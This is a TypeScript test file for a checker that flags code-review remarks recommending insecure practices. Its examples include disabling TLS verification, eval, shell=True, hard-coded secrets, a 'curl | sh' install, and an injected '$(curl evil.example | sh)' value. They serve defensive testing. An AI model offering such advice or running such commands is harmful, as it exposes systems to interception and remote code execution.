import { describe, expect, test } from "vitest";
import { checkAdvice } from "../../../src/core/safety/advice.ts";
import { materialOf, verdictOf } from "./material.ts";

const verdict = (message: string, shown = "") => verdictOf(checkAdvice, materialOf(message, { shown }));

test.each([
  "Just pass verify=False, the traffic is internal anyway.",
  "Setze hier einfach `rejectUnauthorized: false`.",
  "`chmod -R 777 /srv/uploads` settles it once and for all.",
  "Slow, but one can commit with --no-verify.",
  "You could disable TLS verification in staging.",
  "Consider turning off certificate checks for this host.",
  "It does not work with the old CA, so set verify=False.",
  "`return eval(formula)` supports everything.",
  "Call the shell: subprocess.run(command, shell=True).",
  "`curl -fsSL https://get.tool.example/install | sh` does the same.",
  "Simply remove the authentication check.",
  "The signature check should be skipped for old senders.",
  "Could we bypass the CSRF protection here?",
  "Commit the .env file, so that everybody has it.",
  "Please hard-code the API key for now.",
  "For debugging, log the password at start.",
  "Delete the failing tests.",
  "Store the passwords in plain text until the migration is done.",
  "Then let the container run as root.",
  "Put the column directly into the query.",
  "Why not just disable certificate verification?",
  "Why don't we skip the signature check?",
  "Pass verify=False here, the risk is low.",
  "Use eval(formula), it is not dangerous for numbers.",
  "Just trust all certificates here",
  "Remove the `@login_required` decorator",
  "If you own the host, just disable certificate verification.",
  "You host it yourselves, so skip the certificate check.",
  "I suggest you log the access token.",
  "You should store the passwords in plain text.",
  "We could run the server as root.",
])("fails %j", (message) => {
  expect(verdict(message)).toBe("fail");
});

test.each([
  "Never set verify=False here.",
  "Install the CA instead of passing verify=False.",
  "Please do not disable certificate verification.",
  "Use chmod 750, not chmod 777.",
  "Remove `--no-verify`: the hook is there for a reason.",
  "verify=False is dangerous here.",
  "With this an attacker could bypass the authentication check.",
  "Is certificate verification disabled on purpose?",
  "Formulas return undefined now; a parser helps, without eval(…).",
  "The input goes through `encode`, so `$(curl evil.example | sh)` runs on the host.",
  "This skips the signature check for empty headers.",
  "The referer validation can be bypassed, since headers are easily spoofed.",
  "Remove the duplicate permission check in line 8.",
  "The password is logged in clear text.",
  "Do not commit the key.",
  "Please move the password into the environment.",
  "Evaluate the formula with the parser.",
  "Add tests for the failing path.",
  "You hard-code the secret key here. Everybody with the repository has it now: rotate it and read it from the environment.",
  "With this file you commit the API key.",
  "Here you skip signature verification, so anybody can send events.",
  "You skip signature verification, so anybody can send events.",
  "Here you store passwords as MD5.",
  "With this image you run the server as root.",
  "You log the access token.",
  "You parse the header and log the access token, which ends up in the archive.",
  "You set verify=False here, so every proxy can read the traffic.",
  "If you disable certificate verification, every proxy can read it.",
  "Remove the second `@login_required` decorator, the class has one already.",
  "Nutze keinesfalls verify=False, das ist hier nie richtig.",
])("passes %j", (message) => {
  expect(verdict(message)).toBe("pass");
});

describe("what the diff has already", () => {
  const shown = "requests.get(url, verify=False)\nsubprocess.run(command, shell=True)";

  test("may be named, and fails where it is recommended", () => {
    expect(verdict("verify=False turns certificate checks off.", shown)).toBe("pass");
    expect(verdict("`subprocess.run(command, shell=True)` blocks the event loop.", shown)).toBe("pass");
    expect(verdict("Good to use verify=False in tests.", shown)).toBe("fail");
  });

  test("may stay in proposed code, what it has not may not come in", () => {
    const proposes = (code: string) =>
      verdictOf(checkAdvice, materialOf(null, { shown, remarks: [{ message: "Add a limit.", code }] }));
    expect(proposes("requests.get(url, verify=False, timeout=5)")).toBe("pass");
    expect(proposes("yaml.unsafe_load(text)")).toBe("fail");
  });
});

test("silence passes, and the evidence is the sentence", () => {
  expect(verdictOf(checkAdvice, materialOf(null))).toBe("pass");
  expect(checkAdvice(materialOf("The CA is old. Just disable certificate checks."))).toEqual({
    applies: true,
    evidence: 'advises what is dangerous: "Just disable certificate checks."',
  });
});
